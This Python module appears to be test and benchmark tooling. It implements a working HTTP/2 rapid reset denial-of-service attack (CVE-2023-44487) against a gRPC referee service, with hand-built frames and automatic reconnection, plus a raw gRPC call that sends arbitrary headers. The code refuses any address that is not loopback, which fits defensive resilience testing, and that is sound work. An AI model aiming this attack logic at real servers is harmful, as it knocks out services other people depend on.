"""A raw HTTP/2 client for attacking the referee on loopback (tests and bench/rapid_reset.py).

:func:`rapid_reset` opens streams and resets them at once, as fast as it can (the HTTP/2 rapid
reset attack, CVE-2023-44487), bounded in count and time, and stops by itself. :func:`raw_call`
sends one unary gRPC call with headers of its choosing (a non-ASCII ``authorization``, which
grpcio's own client refuses to send). Only loopback addresses are accepted.
"""

from __future__ import annotations

import ipaddress
import socket
import struct
import time
from collections.abc import Callable
from dataclasses import dataclass

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions
import h2.settings

PLAY_PATH = "/cancellation_hearts.v1.RefereeService/Play"


def _loopback(host: str) -> None:
    if not ipaddress.ip_address(host).is_loopback:
        raise ValueError(f"the attacker only talks to loopback addresses, not {host}")


def _connect(host: str, port: int) -> tuple[socket.socket, h2.connection.H2Connection]:
    _loopback(host)
    sock = socket.create_connection((host, port), timeout=5)
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding=None))
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    return sock, conn


def _headers(path: str, extra: list[tuple[bytes, bytes]] = ()) -> list[tuple[bytes, bytes]]:  # type: ignore[assignment]
    return [
        (b":method", b"POST"),
        (b":scheme", b"http"),
        (b":path", path.encode()),
        (b":authority", b"127.0.0.1"),
        (b"content-type", b"application/grpc"),
        (b"te", b"trailers"),
        *extra,
    ]


@dataclass(frozen=True, slots=True)
class AttackReport:
    """What a rapid-reset run did."""

    streams: int
    seconds: float
    closed_by_server: bool


def _frame(kind: int, flags: int, stream_id: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream_id) + payload


def rapid_reset(
    host: str,
    port: int,
    max_streams: int,
    max_seconds: float,
    batch: int = 500,
    started_streams: Callable[[], None] | None = None,
    stopped: Callable[[], bool] = lambda: False,
) -> AttackReport:
    """Opens and resets Play streams on one connection until either bound is reached, or until
    ``stopped()`` says so; ``started_streams`` is called once, when the first stream is out.

    The frames are built by hand (a HEADERS frame whose HPACK block only indexes the dynamic
    table after the first stream, then RST_STREAM CANCEL), as fast as Python can write them. A
    new connection is opened when the server closes one, so the attack lasts its whole time.
    """
    import hpack

    started = time.monotonic()
    sent = 0
    closed = False
    while sent < max_streams and time.monotonic() - started < max_seconds and not stopped():
        try:
            _loopback(host)
            sock = socket.create_connection((host, port), timeout=5)
        except OSError:
            time.sleep(0.05)
            continue
        encoder = hpack.Encoder()
        first_block = encoder.encode(_headers(PLAY_PATH))
        block = encoder.encode(_headers(PLAY_PATH))  # now every field is an index
        rst_code = struct.pack(">I", 8)  # CANCEL
        try:
            sock.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(0x4, 0, 0, b""))
            stream_id = 1
            sock.sendall(_frame(0x1, 0x4, stream_id, first_block) + _frame(0x3, 0, stream_id, rst_code))
            sent += 1
            if started_streams is not None and sent == 1:
                started_streams()
            sock.setblocking(False)
            while sent < max_streams and time.monotonic() - started < max_seconds and not stopped():
                chunk = bytearray()
                for _ in range(batch):
                    stream_id += 2
                    if stream_id >= 2**31:
                        break
                    chunk += _frame(0x1, 0x4, stream_id, block)
                    chunk += _frame(0x3, 0, stream_id, rst_code)
                    sent += 1
                sock.setblocking(True)
                sock.sendall(chunk)
                sock.setblocking(False)
                try:
                    data = sock.recv(1 << 20)
                except BlockingIOError:
                    continue
                if not data or stream_id >= 2**31:
                    closed = True
                    break
                # The server's SETTINGS (and PINGs) want an answer; ack its settings.
                sock.setblocking(True)
                sock.sendall(_frame(0x4, 0x1, 0, b""))
                sock.setblocking(False)
        except OSError:
            closed = True
        finally:
            sock.close()
    return AttackReport(sent, time.monotonic() - started, closed)


def raw_call(
    host: str, port: int, path: str, message: bytes, headers: list[tuple[bytes, bytes]]
) -> dict[str, str]:
    """One unary gRPC call over a raw HTTP/2 connection; the response's headers and trailers."""
    sock, conn = _connect(host, port)
    try:
        stream_id = conn.get_next_available_stream_id()
        conn.send_headers(stream_id, _headers(path, headers))
        conn.send_data(stream_id, struct.pack(">BI", 0, len(message)) + message, end_stream=True)
        sock.sendall(conn.data_to_send())
        out: dict[str, str] = {}
        deadline = time.monotonic() + 10
        while time.monotonic() < deadline:
            data = sock.recv(65536)
            if not data:
                break
            for event in conn.receive_data(data):
                if isinstance(event, h2.events.ResponseReceived | h2.events.TrailersReceived):
                    for key, value in event.headers:
                        out[key.decode()] = value.decode("utf-8", "replace")
                if isinstance(event, h2.events.StreamEnded | h2.events.StreamReset):
                    return out
            sock.sendall(conn.data_to_send())
        return out
    finally:
        sock.close()


if __name__ == "__main__":
    import json
    import signal
    import sys

    # SIGTERM ends the attack early, its report still printed; "started" is printed (and
    # flushed) once the first stream is out, for a caller that waits for the attack to be on.
    stop: list[bool] = []
    signal.signal(signal.SIGTERM, lambda *_: stop.append(True))
    host, port, count, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
    report = rapid_reset(
        host,
        port,
        count,
        seconds,
        started_streams=lambda: print("started", flush=True),
        stopped=lambda: bool(stop),
    )
    print(
        json.dumps(
            {
                "streams": report.streams,
                "seconds": round(report.seconds, 3),
                "closed": report.closed_by_server,
            }
        )
    )
